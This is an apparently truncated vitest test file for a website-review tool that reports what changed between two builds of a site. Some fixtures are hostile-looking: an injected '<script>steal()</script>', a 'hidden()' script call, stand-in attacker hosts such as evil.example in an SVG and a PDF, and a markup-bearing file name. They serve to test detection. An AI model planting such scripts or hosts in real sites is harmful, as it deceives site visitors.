/**
 * Small branches, each with a harm that somebody might overlook. A review never says of one that nothing changed, and names
 * what did. The same is true of random changes of what was built.
 */
import fc from 'fast-check';
import { parse, serialize, defaultTreeAdapter as tree } from 'parse5';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { builtFiles, changesBetween } from '../testing/builtSiteOf.ts';
import { rowsIn } from '../testing/fixtures.ts';
import type { SourceChange } from '../sources.ts';
import type { ChangedFile } from '../../../scripts/lib/git/git.ts';
import { attribute, elementsOf, type Node } from '../../../scripts/lib/htmlTree.ts';
import { ReviewPage } from '../page/ReviewPage.tsx';
import type { Change } from '../review.ts';
import { reviewSummary } from '../testing/reviewSummary.ts';

type Files = Record<string, string>;

/** A change in a line: its kind, its name, what differs, and how many pages show it. */
const line = ({ kind, what, details, pages }: Change): string =>
  `${kind} | ${what} | ${details.map(({ label = '', before, after }) => `${label} ${before} → ${after}`).join('; ')} | ${pages.length}`;

function and(files: Files, from: string, to: string, names = /\.html$/): Files {
  const changed = Object.fromEntries(
    Object.entries(files).map(([name, text]) => [name, names.test(name) ? text.replaceAll(from, to) : text]),
  );
  expect(changed, from).not.toEqual(files);
  return changed;
}

const replaced = (from: string, to: string, names?: RegExp): Files => and(builtFiles, from, to, names);

const word = (files: Files) => and(files, 'Write to us.', 'Call us.', /contact/);

const script = "addEventListener('scroll',()=>{});";

/* The body of a page before and after, and everything that is said of it. */
test.each([
  [
    '<p>The page says <a href="/prices">what we ask</a>.</p>',
    '<p>The <a href="/prices">page</a> says what we ask.</p>',
    '“what we ask” is no longer a link to /prices',
  ],
  ['<p>Name a day.</p>', '<p>Name a <a href="/days">day</a>.</p>', '“day” is now a link to /days'],
  ['<p>Name a <a href="/d">day</a>.</p>', '<p>Name a day.</p>', '“day” is no longer a link to /d'],
  [
    '<ul><li><b>You:</b> ask.</li><li><b>You:</b> pay.</li><li><b>You:</b> go.</li></ul>',
    '<ul><li><b>You:</b> ask.</li><li>You: <b>pay</b>.</li><li><b>You:</b> go.</li></ul>',
    '“You” is no longer emphasized',
  ],
  ['<p>Line <b>one</b> two.</p>', '<p>Line <b>one two</b>.</p>', '“two” is now emphasized'],
  [
    '<p>See <a href="/days">how a day is priced</a>.</p>',
    '<p>See how a day is <a href="/days">priced</a>.</p>',
    '“how a day is” is no longer a link to /days',
  ],
  ['<p>Line <b>one two</b>.</p>', '<p>Line <b>one three</b>.</p>', '“Title”'],
  ['<p>A <b>big</b> day.</p>', '<p>A <b>big new</b> day.</p>', '“Title”'],
  ['<p>Say <b>no</b>.</p>', '<p>Never say <b>no</b>.</p>', '“Title”'],
  ['<p>Run it.</p>', '<p>Run <code>it</code>.</p>', '“it” is now set as code'],
  ['<p>Ask us.</p>', '<ul><li>Ask us.</li></ul>', '“Ask us” is now a list'],
  ['<h3>Prices</h3><p>Ask.</p>', '<p>Prices</p><p>Ask.</p>', '“Prices” is no longer a heading of level 3'],
  ['<h3>Prices</h3><p>Ask.</p>', '<h2>Prices</h2><p>Ask.</p>', '“Prices” is now a heading of level 2'],
  [
    '<ul><li><img src="/a.svg" alt="A"></li><li><img src="/b.svg" alt="B"></li><li><img src="/c.svg" alt="C"></li></ul>',
    '<ul><li><img src="/a.svg" alt="A"></li><li><img src="/c.svg" alt="C"></li></ul>',
    'picture “B” is gone',
  ],
  [
    '<ul><li><h3>A</h3><p>1</p></li><li><h3>B</h3><p>2</p></li><li><h3>C</h3><p>3</p></li></ul>',
    '<ul><li><h3>B</h3><p>2</p></li><li><h3>A</h3><p>1</p></li><li><h3>C</h3><p>4</p></li></ul>',
    '“A” in another place',
  ],
  [
    '<a href="https://map.example/?at=1,2&z=9#x">Map</a>',
    '<a href="https://map.example/?at=3,4&z=9#x">Map</a>',
    'link to map.example: at=3,4 instead of at=1,2',
  ],
  [
    '<a href="https://map.example/a/b">Map</a>',
    '<a href="http://map.example/a/b">Map</a>',
    'link to http://map.example/… instead of https://map.example/…',
  ],
  [
    '<a href="https://map.example/a">Map</a>',
    '<a href="https://map.example/a?partner=1">Map</a>',
    'link to map.example/a, with partner=1',
  ],
  ['<a href="/a#b">Map</a>', '<a href="/a#c">Map</a>', 'link to /a#c instead of /a#b'],
  ['<p>Ask.</p><iframe src="/map"></iframe>', '<p>Ask.</p>', 'frame /map is gone'],
])('what a page says differs: %s', (before, after, ...expected) => {
  const known = { 'map.html': '<main><a href="https://map.example">Map</a></main>' };
  const page = (body: string) => ({ ...known, 'p.html': `<main><h1>Title</h1>${body}</main>` });
  expect(changesBetween(page(before), page(after)).map(({ what }) => what)).toEqual(expected);
});

test.each([
  [
    '<p><a href="/ask">Bring one task</a> <a href="/all">See all</a></p>',
    '<a href="/work">See our work</a> <a href="/all">See all</a>',
  ],
  [
    '<p>It explains <a href="/ask">how a day is priced</a>.</p>',
    'It explains <a href="/work">what it costs</a>.',
  ],
  ['<p>Ask us <a href="/b">now</a>.</p>', 'Ask <a href="/work">anybody</a> else <a href="/b">now</a>.', ''],
])(
  'a link that changed with its words names both addresses, and no other: %s',
  (before, after, old = '/ask') => {
    const rest = '<p><a href="/ask">Ask</a></p><p><a href="/work">Work</a></p>';
    const page = (body: string) => ({ 'p.html': `<main><h1>Title</h1>${body}${rest}</main>` });
    const changes = changesBetween(page(before), page(`<p>${after}</p>`));
    const details = changes.flatMap((each) => each.details).filter(({ label }) => label);
    expect(details).toEqual([{ label: 'link', before: old, after: '/work' }]);
  },
);

test.each([
  ['<section><p>Ask.</p></section>', '<section>\n<p>Ask.</p>\n</section>'],
  ['<p>Ask us\nnow.</p>', '<p>Ask us now.</p>'],
])('lines of HTML that nobody sees are nothing: %s', (before, after) => {
  const page = (body: string) => ({ 'p.html': `<main>${body}</main>` });
  expect(changesBetween(page(before), page(after))).toEqual([]);
});

test('the words of a drawing may name a host', () => {
  const drawing = (words: string) => ({ 'pictures/a.svg': `<svg><text x="1">${words}</text></svg>` });
  const changes = changesBetween(
    { ...builtFiles, ...drawing('Ask us') },
    { ...builtFiles, ...drawing('Pay at <tspan>evil.example</tspan>') },
  );
  expect(changes.map(({ what }) => what)).toContain('new host evil.example');
});

test('a name in a drawing that is another is named', () => {
  const [before, after] = ['Richmond Rd', 'Residency Rd'].map((name) => ({
    ...builtFiles,
    'pictures/map.svg': `<svg><text x="1">${name}</text></svg>`,
  }));
  expect(changesBetween(before ?? {}, after ?? {}).map(line)).toEqual([
    expect.stringMatching(/^picture .*Richmond Rd.*Residency Rd/s),
  ]);
});

test('a page that moved says how much of it is gone', () => {
  const page = (text: string) => `<main><h1>A</h1>${text}</main>`;
  const rename = { file: 'content/b.mdx', before: 'content/a.mdx', status: 'renamed' } as const;
  const files = [rename];
  const changes = changesBetween(
    { 'a.html': page('<p>One.</p><p>Two.</p>') },
    { 'b.html': page('<p>One.</p>') },
    { files },
  );
  expect(changes[0]?.what).toMatch(/, without 1 of its texts: /);
});

test('what is the same is the same', () => {
  expect(changesBetween(builtFiles, builtFiles)).toEqual([]);
});

function lineLike(text: string): RegExp {
  const parts = text.split('…').map((part) => part.trim().replace(/[|.+?()[\]]/g, String.raw`\$&`));
  return new RegExp(`^${parts.join('[^]*')}$`, 'm');
}

/*
 * What differs: “old ⇒ new” in all pages, or in the files with a part of their name before it. Then the changes that name
 * it, each as a line, in which “…” is anything.
 */
test.each(rowsIn('harms'))('%s', (_what, differences = '', ...expected) => {
  const files = differences.split(' & ').reduce((all, difference) => {
    const [, name, from = '', to = ''] = /^(?:([\w.]+): )?(.*) ⇒ (.*)$/s.exec(difference) ?? [];
    return and(all, from, to, name === undefined ? undefined : new RegExp(name));
  }, builtFiles);
  const changes = changesBetween(builtFiles, files).map(line).join('\n');
  for (const each of expected) expect(changes).toMatch(lineLike(each));
});

const heavy = `\0${'Ann'.repeat(9000)}`;

test.each<[string, Files, string]>([
  ['a file whose name is markup', { '<img src=x>.txt': 'x' }, 'other | … <img src=x>.txt …'],
  ['a heavy picture', { 'pictures/ann.0a1b2c3d4e.webp': heavy }, 'picture | … 0.0 kB … 27.0 kB …'],
  [
    'what other services trust',
    { '.well-known/assetlinks.json': '[]' },
    'sent | file .well-known/assetlinks.json for other services is new | … | 0',
  ],
  [
    'a download with words',
    { 'files/prices.pdf': '%PDF-1.4\nBT (Pay to pay.evil-example.net) Tj ET' },
    'sent | new host pay.evil-example.net | … | 0',
  ],
  ['another download', { 'files/prices.pdf': '%PDF\0' }, 'sent | download files/prices.pdf is new | … | 0'],
  ['another font', { 'assets/text-Bb8VGrTG.woff2': '\0other' }, 'other | … assets/text.woff2 …'],
  [
    'a blank line elsewhere',
    { 'index.md': `\n${builtFiles['index.md']?.replace('\n\n', '\n')}` },
    'search | … the same lines → with other spaces …',
  ],
])('%s', (_what, files, expected) => {
  const changes = changesBetween(builtFiles, { ...builtFiles, ...files })
    .map(line)
    .join('\n');
  expect(changes).toMatch(lineLike(expected));
});

test('bytes in an empty file are a difference', () => {
  const [empty, filled] = ['', '\0'].map((text) => ({ ...builtFiles, 'data.bin': text }));
  expect(changesBetween(empty ?? {}, filled ?? {}).map(line)).toEqual([
    expect.stringMatching(/^other \| .*data\.bin.* an empty file → 0\.0 kB/),
  ]);
});

test('a new page is listed with all of its words, and with what it runs', () => {
  const page = (builtFiles['contact.html'] ?? '')
    .replaceAll('/contact', '/team')
    .replace('Write to us.', 'Ann and Bo.<script>steal()</script>');
  const changes = changesBetween(builtFiles, { ...builtFiles, 'team.html': page })
    .map(line)
    .join('\n');
  expect(changes).toMatch(/^added \| Contact: \/team .*Ann and Bo\./m);
  expect(changes).toMatch(/^program \| .*steal\(\) \| 1$/m);
});

test('what a list shows of a new page is one change with the page', () => {
  const shown = (text: string) => text.replace('Write to us.', 'March 1, 2027');
  const page = shown(builtFiles['contact.html'] ?? '').replaceAll('/contact', '/news/jobs');
  const list = and(builtFiles, '</main>', '<p>March 1, 2027</p></main>', /index/);
  const feed = '<feed>\n<updated>2026</updated>\n</feed>';
  const changes = changesBetween(
    { ...builtFiles, 'feed.xml': feed },
    { ...list, 'feed.xml': feed.replace('2026', '2027'), 'news/jobs.html': page },
  );
  expect(changes.map(({ kind }) => kind)).toEqual(['added']);
});

test('a new entry of the menu does not report aria-current', () => {
  const files = replaced(
    '<nav aria-label="Menu">',
    '<nav aria-label="Menu"><a href="/contact" class="sc-a-0 bwvGEY">Contact</a>',
  );
  expect(changesBetween(builtFiles, files).every(({ kind }) => kind === 'words')).toBe(true);
});

test('generated names are no difference; a style is one change, also in programs', () => {
  const named = and(replaced('bwvGEY', 'hGDpgY'), 'site-ChItC6Ti', 'site-DLdTyeJM');
  const moved = Object.fromEntries(
    Object.entries(named).map(([name, text]) => [name.replace('site-ChItC6Ti', 'site-DLdTyeJM'), text]),
  );
  expect(changesBetween(builtFiles, moved)).toEqual([]);
  const padded = and(moved, 'padding:8px', 'padding:12px', /html|js/);
  expect(changesBetween(builtFiles, padded).map(line)).toEqual([
    'look | padding of “Home” from 8px to 12px | “Home” padding:8px → padding:12px | 2',
  ]);
});

/** A change of one text at a line of a file. */
const source = (
  file: string,
  line: number,
  before: string,
  after: string,
  name = 'paragraph',
): SourceChange => {
  const text = (value: string) =>
    value ? { name, value, plain: value, line, passage: true as const } : undefined;
  return { file, line, texts: [{ before: text(before), after: text(after) }] };
};

test('a list that becomes another one is one change; of a value that is no text, no text that stays is the cause', () => {
  const list = (tag: string) =>
    replaced('Write to us.</p>', `Write to us.</p><${tag}><li>One</li></${tag}>`, /contact/);
  expect(changesBetween(list('ul'), list('ol')).map(({ what }) => what)).toEqual([
    '“One” is now a numbered list',
  ]);
  const [was, is] = ['Write to us. Our acme-key fits.', 'Ask us. Our acme-key fits.'];
  const base = replaced('Write to us.', was, /contact/);
  const both = and(and(base, was, is, /contact/), '"acme-key"', '"tools"', /contact/);
  const sources = [source('content/contact.mdx', 9, was, is)];
  // Without changed programs, the only text would be the cause.
  const files: ChangedFile[] = [{ file: 'src/site.ts', status: 'changed' }];
  const kinds = changesBetween(base, both, { sources, files }).map(
    ({ kind, cause }) => `${kind} ${cause?.line}`,
  );
  expect(kinds).toContain('sent undefined');
});

test('an attribute for scripts that repeats a text is one change with it', () => {
  const menu = (text: string) => replaced('>Home<', ` data-text="${text}">${text}<`);
  const sources = [source('content/index.mdx', 3, 'Home', 'Start', 'menu.header')];
  const changes = changesBetween(menu('Home'), menu('Start'), { sources });
  expect(changes.map(({ what }) => what)).toEqual(['menu or footer: “Start”']);
});

test('an entry of the menu that has another name and place is not only added', () => {
  const menu = (...names: string[]) => ({
    'p.html': `<nav><ul>${names.map((name) => `<li><a href="/${name}">${name}</a></li>`).join('')}</ul></nav><main><h1>P</h1></main>`,
  });
  const [before, after] = [menu('Work', 'About', 'Contact'), menu('Talk to us', 'Work', 'About')];
  const sources = [source('content/contact.mdx', 3, 'Contact', 'Talk to us', 'menu.header')];
  const files: ChangedFile[] = [{ file: 'content/contact.mdx', status: 'changed' }];
  const [change] = changesBetween(before, after, { sources, files });
  expect(change?.details[0]).toMatchObject({ before: 'Contact', after: 'Talk to us' });
});

test('what repeats a text in other places is one change with it, with all that differs', () => {
  const asked = (from: string, to: string) =>
    changesBetween(builtFiles, replaced(from, to, /contact/), {
      sources: [source('content/contact.mdx', 9, from, to)],
      files: [{ file: 'content/contact.mdx', status: 'changed' }],
    });
  const [question, ...others] = asked('About a week.', 'About a month.');
  expect(others).toEqual([]);
  expect(question).toMatchObject({ kind: 'words', what: '“How long does it take?”' });
  expect(asked('Your name', 'Full name').map(({ kind }) => kind)).toEqual(['words']);
});

test.each(['content/_style.yaml', 'content/_new/page.mdx', 'urls.lock'])(
  'what a page shows does not come from %s, which no page is made from',
  (other) => {
    const [from, to] = ['About a week.', 'About a month.'];
    const changes = changesBetween(builtFiles, replaced(from, to, /contact/), {
      sources: [source(other, 3, from, to), source('content/site.yaml', 9, from, to)],
    });
    expect(changes.map(({ kind, cause }) => `${kind} ${cause?.file}`)).toEqual([
      'words content/site.yaml',
      `unseen ${other}`,
    ]);
  },
);

test('words that are filled into a text are no part of what the file says', () => {
  const named = (text: string) => and(builtFiles, 'Write to us.', text, /contact/);
  const changes = changesBetween(named('Book a Call with Ann, today.'), named('Pay Ann Now, today.'), {
    sources: [source('content/site.yaml', 9, 'Book a Call with {name}', 'Pay {name} Now', 'labels.bookCall')],
    files: [{ file: 'content/site.yaml', status: 'changed' }],
  });
  expect(changes.map(({ kind, cause }) => `${kind} ${cause?.line}`)).toEqual(['words 9']);
});

const changedFile: ChangedFile[] = [{ file: 'content/contact.mdx', status: 'changed' }];

test('what a page adds to a link that leads elsewhere is one change with it, also beside another text', () => {
  const linked = (start: string, note = '', other = 'From May 1') =>
    and(
      and(builtFiles, 'Write to us.', `Read <a href="${start}">this${note}</a> first.`, /contact/),
      ...(['</main>', `<p>${other}</p></main>`, /index/] as const),
    );
  const fresh = ['https://bit.ly/x" target="_blank" rel="noopener', ' (in a new tab)'] as const;
  const sources = [source('content/contact.mdx', 9, '/files/a.pdf', 'https://bit.ly/x', 'address')];
  const textSources = [source('content/index.mdx', 4, 'From May 1', 'From June 1')];
  const found = (other?: string) =>
    changesBetween(linked('/files/a.pdf'), linked(...fresh, other), {
      sources: other ? [...sources, ...textSources] : sources,
      files: changedFile,
    }).map(({ kind, cause }) => `${kind} ${cause?.file}`);
  expect(found()).toEqual(['sent content/contact.mdx']);
  expect(found('From June 1')).toEqual(['sent content/contact.mdx', 'words content/index.mdx']);
});

test('of a page that is unlisted, what search engines do comes first', () => {
  const fresh = and(
    and(builtFiles, '<meta charset', '<meta name="robots" content="noindex"/><meta charset', /contact/),
    '<link rel="canonical" href="https://acme.example.com/contact"/>',
    '',
    /contact/,
  );
  const sources = [source('content/contact.mdx', 4, '', 'true', 'unlisted')];
  const [change, ...others] = changesBetween(builtFiles, fresh, { sources, files: changedFile });
  expect(others).toEqual([]);
  expect(change?.what).toBe('search engines no longer list');
});

test('a redirect is one change, with and without a slash at the end', () => {
  const redirects = `${builtFiles._redirects}/costs /contact 301\n/costs/ /contact 301\n/pricing /contact 301\n/pricing/ /contact 301\n`;
  const aliases = ['/costs', '/pricing'].map(
    (each) => source('content/contact.mdx', 5, '', each, 'aliases').texts[0] ?? {},
  );
  const sources = [{ file: 'content/contact.mdx', line: 5, texts: aliases }];
  const changes = changesBetween(builtFiles, { ...builtFiles, _redirects: redirects }, { sources });
  expect(changes.map(({ details }) => details.length)).toEqual([2, 2]);
});

test('of rows in another order, the text version is one change with them, at their line', () => {
  const rows = (...names: string[]) => names.map((name) => `<tr><td>${name}</td><td>$1</td></tr>`).join('');
  const page = (...names: string[]) => ({
    ...and(
      builtFiles,
      '<p id="lead">',
      `<table><tbody>${rows(...names)}</tbody></table><p id="lead">`,
      /contact/,
    ),
    'contact.md': names.map((name) => `| ${name} | $1 |\n`).join(''),
  });
  const cell = source('content/contact.mdx', 9, 'Desk', 'Desk', 'tableCell').texts;
  const sources = [{ file: 'content/contact.mdx', line: 9, order: '1 row in another place', texts: cell }];
  const changes = changesBetween(page('Chair', 'Desk'), page('Desk', 'Chair'), { sources });
  expect(changes.map(({ kind, what, cause }) => `${kind} ${what} ${cause?.line}`)).toEqual([
    'words 1 row in another place 9',
  ]);
});

test('the order of the menu comes from the fields of its pages', () => {
  const menu = (...links: string[]) =>
    replaced('<nav aria-label="Menu">', `<nav aria-label="Menu">${links.join('')}`);
  const links = ['/a', '/b'].map((url) => `<a href="${url}">To ${url}</a>`);
  const files = ['content/a.mdx', 'content/b.mdx'];
  const changes = changesBetween(menu(...links), menu(...links.toReversed()), {
    sources: files.map((file, index) => source(file, 4, `${index}`, `${1 - index}`, 'menu.order')),
    files: files.map((file) => ({ file, status: 'changed' })),
  });
  expect(changes.map(({ what }) => what)).toEqual(['menu entry “To /a” in another place']);
});

test('a new link and its words are one change, and so are the parts of an entry of the menu', () => {
  const [text] = source('content/contact.mdx', 9, 'Write to us.', 'Write to us{newTab}.', 'paragraph').texts;
  const [address] = source('content/contact.mdx', 9, '', 'https://rye.example/', 'address').texts;
  const link = '<a href="https://rye.example/" target="_blank">Write to us (in a new tab)</a>.';
  const changes = changesBetween(builtFiles, replaced('Write to us.', link, /contact/), {
    sources: [{ file: 'content/contact.mdx', line: 9, texts: [text ?? {}, address ?? {}] }],
    files: changedFile,
  });
  expect(changes.map(({ what }) => what)).toEqual(['new host rye.example']);
  expect(changes[0]?.details.map(({ after }) => after)).toContain('https://rye.example/ target="_blank"');
  const menu = (name: string) =>
    replaced(
      '<nav aria-label="Menu">',
      `<nav aria-label="Menu"><a href="/">Home</a> <a href="/x">${name}</a><i data-text="${name}"></i>`,
    );
  expect(changesBetween(menu('Work'), menu('Projects')).map(({ what }) => what)).toEqual([
    'menu or footer: “Projects”',
  ]);
});

test('two headings that were edited are two changes, and two that were swapped are one', () => {
  const headings = (...names: string[]) =>
    replaced(
      '<p id="lead">',
      `${names.map((name) => `<h2>${name}</h2>`).join('<p>Words.</p>')}<p id="lead">`,
    );
  const whats = (...names: [string, string]) =>
    changesBetween(headings('One', 'Two'), headings(...names), {
      sources: ['One', 'Two'].map((old, index) =>
        source('content/contact.mdx', index + 4, old, names[index] ?? '', 'Feature title'),
      ),
      files: changedFile,
    });
  expect(whats('Three', 'Four')).toHaveLength(2);
  expect(whats('Two', 'One')).toHaveLength(1);
});

test('a title and a description in search results are called so', () => {
  const title = replaced('<title>', '<title>New ', /contact/);
  expect(changesBetween(builtFiles, title).map(({ what }) => what)).toEqual(['title in search results']);
});

test('a button that only runs something sends nothing', () => {
  const buttons = (amount: number) =>
    replaced('</main>', `${'<button type="button">All</button>'.repeat(amount)}</main>`, /contact/);
  expect(changesBetween(buttons(1), buttons(2)).map(({ kind }) => kind)).not.toContain('sent');
  const sends = replaced('</main>', '<button type="submit">All</button></main>', /contact/);
  expect(changesBetween(buttons(1), sends).map(({ kind }) => kind)).toContain('sent');
});

test('a setting of something new is listed with it', () => {
  const [title, setting] = [
    source('content/contact.mdx', 12, '', 'Call us on Monday.', 'projects.title'),
    source('content/contact.mdx', 13, '', 'true', 'projects.listed'),
  ];
  const sources = [{ ...title, texts: [...title.texts, ...setting.texts] }];
  const fresh = and(builtFiles, '</main>', '<p>Call us on Monday.</p></main>', /contact/);
  expect(changesBetween(builtFiles, fresh, { sources }).map(line)).toEqual([
    'words | “How long does it take?” |   → Call us on Monday.; projects.listed  → true | 1',
  ]);
});

test('a text that is named on one side only is listed with what it was', () => {
  const fresh = replaced('Write to us.', 'Write to our formspree today.');
  const sources = [source('content/site.yaml', 51, 'simulate', 'formspree', 'delivery.service')];
  expect(changesBetween(builtFiles, fresh, { sources }).map(line).join('\n')).toMatch(/simulate → formspree/);
});

test('settings of a page, which no page shows, are one change with all that follows from them', () => {
  const old = and(builtFiles, '<p id="lead">', '<p>★★★★★</p><p id="lead" data-items="2">', /contact/);
  const fresh = and(
    and(old, '★★★★★', '★★★★', /contact/),
    'data-items="2">',
    'data-items="3">New: ',
    /contact/,
  );
  const sources = [
    source('content/contact.mdx', 8, '5', '4', 'quotes.rating'),
    source('content/contact.mdx', 9, '', 'true', 'quotes.featured'),
  ];
  expect(changesBetween(old, fresh, { sources }).map(line)).toEqual([
    'words | “Contact” | quotes.rating 5 → 4; quotes.featured  → true;  ★★★★★ → ★★★★;  Write to us. → New: Write to us.; setting of a part of the page (<p> data-items) 2 → 3 | 1',
  ]);
});

test('a switch that decides what a list shows is named with what it hides', () => {
  const old = and(builtFiles, '</main>', '<ul data-on="true"><li>Our best work</li></ul></main>', /contact/);
  const fresh = and(old, '<li>Our best work</li>', '', /contact/);
  const sources = [source('content/work.mdx', 7, 'true', '', 'projects.featured')];
  expect(changesBetween(old, fresh, { sources }).map(line)).toEqual([
    expect.stringMatching(/^words \| .* \| projects\.featured true → /),
  ]);
});

test('what is gone in one place and new in another is one change', () => {
  const [moved, old] = [/index/, /contact/].map((page) =>
    and(builtFiles, '</main>', '<p>Two weeks.</p></main>', page),
  );
  expect(changesBetween(old ?? {}, moved ?? {}).map(line)).toEqual([
    'words | “Two weeks.” moved from /contact to / |   → Two weeks.;  Two weeks. →  | 2',
  ]);
});

test('a quote that is gone is said to be, also if pages show another in its place', () => {
  const [gone, other] = ['“Prices rose at once.”', '“It asks first.”'];
  const pages = (...quotes: string[]) => ({
    'all.html': `<main><h1>All</h1>${quotes.map((quote) => `<p>${quote}</p>`).join('')}</main>`,
    'p.html': `<main><h1>Home</h1><p>${quotes[0]}</p></main>`,
  });
  const texts = [
    ...source('content/all.mdx', 9, gone.slice(1, -1), '', 'quotes.quote').texts,
    ...source('content/all.mdx', 10, 'Ann', '', 'quotes.author').texts,
  ];
  const changes = changesBetween(pages(gone, other), pages(other), {
    sources: [{ file: 'content/all.mdx', line: 9, texts }],
    files: [{ file: 'content/all.mdx', status: 'changed' }],
  });
  expect(changes.map(({ what }) => what)).toEqual(['“Prices rose at once.” by Ann is gone']);
});

test('words that moved below another heading, with their text, are one change', () => {
  const answer = '<p>Nothing at first.</p>';
  const old = and(builtFiles, '</main>', `${answer}</main>`, /index/);
  const fresh = and(builtFiles, '</main>', `<h2>Cost</h2>${answer}</main>`, /contact/);
  const cost = source('content/contact.mdx', 3, '', 'Cost', 'Section title').texts;
  const text = source('content/contact.mdx', 5, '', 'Nothing at first.').texts;
  const sources = [
    source('content/index.mdx', 9, 'Nothing at first.', ''),
    { file: 'content/contact.mdx', line: 3, texts: [...cost, ...text] },
  ];
  expect(changesBetween(old, fresh, { sources }).map(({ what }) => what)).toEqual([
    '“Nothing at first.” moved from / to /contact',
  ]);
  // With other words beside it, it is not only moved.
  const more = and(fresh, answer, `${answer}<p>Then a lot.</p>`, /contact/);
  const others = source('content/contact.mdx', 7, '', 'Then a lot.').texts;
  const [first, ...rest] = sources;
  const longer = rest.map((each) => ({ ...each, texts: [...each.texts, ...others] }));
  const changes = changesBetween(old, more, { sources: [first, ...longer].flatMap((each) => each ?? []) });
  expect(changes).toHaveLength(2);
});

test('a style is no part of the words that changed on its page', () => {
  const fresh = and(
    and(builtFiles, 'h1{line-height:1.2;}', 'h1{line-height:1.2;}nav a{display:none;}'),
    'Write to us.',
    'Call us now.',
    /contact/,
  );
  const changes = changesBetween(builtFiles, fresh, {
    sources: [source('content/contact.mdx', 9, 'Write to us.', 'Call us now.')],
    files: [...changedFile, { file: 'src/theme/GlobalStyle.ts', status: 'changed' }],
  });
  expect(changes.map(({ kind, pages }) => `${kind} ${pages.length}`)).toEqual(['words 1', 'look 2']);
});

test('the new host of the site’s own address is called so', () => {
  const other = replaced(
    'rel="canonical" href="https://acme.example.com',
    'rel="canonical" href="https://acme.example.net',
  );
  expect(changesBetween(builtFiles, other).map(({ what }) => what)).toContain(
    'new host acme.example.net as the site’s own address',
  );
});

test('a line that is broken elsewhere in a file is only another way to write it', () => {
  const files: ChangedFile[] = [{ file: 'content/contact.mdx', status: 'changed' }];
  const sources = [{ file: 'content/contact.mdx', texts: [] }];
  const broken = replaced('Write to us.', 'Write to\nus.');
  expect(changesBetween(builtFiles, broken, { sources, files }).map(({ kind }) => kind)).toEqual(['unseen']);
  const code = (text: string) => and(builtFiles, 'Write to us.', `<pre>${text}</pre>`, /contact/);
  expect(changesBetween(code('a b'), code('a\nb'), { sources, files }).map(({ kind }) => kind)).toContain(
    'other',
  );
});

test.each([
  ['a line of a list', 'feed.xml', '<feed>\n</feed>', '<feed>\n<entry/>\n</feed>', /^search \| what /],
  ['a new file', 'cards.ics', undefined, 'BEGIN:VCALENDAR', /^other \| file cards\.ics is new /],
  [
    'a line of a file',
    'cards.ics',
    'BEGIN:VCALENDAR',
    'BEGIN:VCALENDAR\nEND',
    /^other \| file cards\.ics \|/,
  ],
])('%s is called so', (_what, name, before, after, expected) => {
  const old = before === undefined ? builtFiles : { ...builtFiles, [name]: before };
  expect(changesBetween(old, { ...builtFiles, [name]: after }).map(line)).toEqual([
    expect.stringMatching(expected),
  ]);
});

test('the size of another picture is named with it', () => {
  const other = and(builtFiles, 'width="640"', 'width="600"');
  const files = { ...other, 'pictures/ann.0a1b2c3d4e.webp': '\0other' };
  const sources = [source('content/_pictures/ann.webp', 0, 'ann', 'ann', 'file')];
  const changes = changesBetween(builtFiles, files, { sources });
  expect(changes.map(({ kind, what }) => `${kind} ${what}`)).toEqual([
    expect.stringMatching(/^picture .*ann/),
  ]);
});

test('a place that shows another picture names both', () => {
  const files = and(builtFiles, 'pictures/ann.0a1b2c3d4e.webp', 'pictures/bo.0a1b2c3d4e.webp');
  const shown = { ...files, 'pictures/bo.0a1b2c3d4e.webp': '\0bo' };
  const [change] = changesBetween(builtFiles, shown);
  expect(change?.what).toBe('picture bo.webp instead of ann.webp');
});

test('what differs is called in words, whatever element it is of', () => {
  const changes = changesBetween(builtFiles, replaced('<p id="lead">', '<p id="lead" aria-label="4 of 5">'));
  expect(changes.map(({ what }) => what)).toEqual(['description for screen readers']);
});

test('a picture that only has another name is no other picture', () => {
  const renamed = Object.fromEntries(
    Object.entries(builtFiles).map(([name, text]) =>
      [name, text].map((each) => each.replaceAll('pictures/ann', 'pictures/team/bo')),
    ),
  );
  const shown = and(builtFiles, '<p id="lead">', '<img src="/pictures/ann.0a1b2c3d4e.webp"/><p id="lead">');
  const after = and(shown, '/pictures/ann', '/pictures/team/bo');
  const files = { ...renamed, 'contact.html': after['contact.html'] ?? '' };
  const changes = changesBetween(shown, { ...files, 'index.html': after['index.html'] ?? '' });
  expect(changes.map(line)).toEqual([
    'other | name of the picture bo | name of a picture /pictures/ann-640.webp → /pictures/team/bo-640.webp; name of a picture /pictures/ann.webp → /pictures/team/bo.webp | 0',
  ]);
});

test('of changed words, those with other numbers come first', () => {
  const edits = [
    ['We try it on a phone.', 'We test it on a phone.'],
    ['It costs $2,300.', 'It costs $2,900.'],
  ];
  const [old, fresh] = [0, 1].map((side) =>
    and(builtFiles, '</main>', `${edits.map((each) => `<p>${each[side]}</p>`).join('')}</main>`, /contact/),
  );
  const sources = edits.map(([from = '', to = ''], index) => source('content/contact.mdx', index, from, to));
  expect(changesBetween(old ?? {}, fresh ?? {}, { sources }).map(({ cause }) => cause?.line)).toEqual([1, 0]);
});

test('the redirects of a page that is gone are listed with it', () => {
  const { 'contact.html': _page, ...left } = builtFiles;
  const redirects = `${builtFiles._redirects}/contact / 301\n/contact/ / 301\n`;
  const changes = changesBetween(builtFiles, { ...left, _redirects: redirects });
  expect(changes.map(({ kind }) => kind)).not.toContain('sent');
  expect(changes.map(line).join('\n')).toMatch(/^removed .* → \/contact\/ \/ 301/m);
});

test('a script that is in pages and in a file is one change', () => {
  const withScript = and(replaced(script, `${script}hidden();`), 'fetch("/search")', 'hidden()', /site-/);
  expect(changesBetween(builtFiles, withScript).map(line)).toEqual([
    expect.stringMatching(/^program \| .*hidden\(\).* \| 2$/),
  ]);
  const colored = (color: string) => replaced('h1{line-height:1.2;}', `:root{--muted:${color};}`);
  expect(changesBetween(colored('#111'), colored('#222')).map(line)).toEqual([
    expect.stringMatching(/^look \| --muted from #111 to #222 \| :root .*#111.* → .*#222.* \| 2$/),
  ]);
});

test.each([
  ['a line', source('content/contact.mdx', 50, '', 'Try never.'), 'unseen | content/contact.mdx:50 |'],
  ['a known word', source('content/_words.txt', 9, '', 'Acmee', 'line'), 'unseen | content/_words.txt:9'],
])('%s that no page shows is listed', (_name, unseen, expected) => {
  const files: ChangedFile[] = [{ file: unseen.file, status: 'changed' }];
  const [change, ...others] = changesBetween(builtFiles, builtFiles, { sources: [unseen], files }).map(line);
  expect(change).toContain(expected);
  expect(change).toContain(unseen.texts[0]?.after?.value);
  expect(others).toEqual([]);
});

test.each(['Call us.', 'Now: call us.'])(
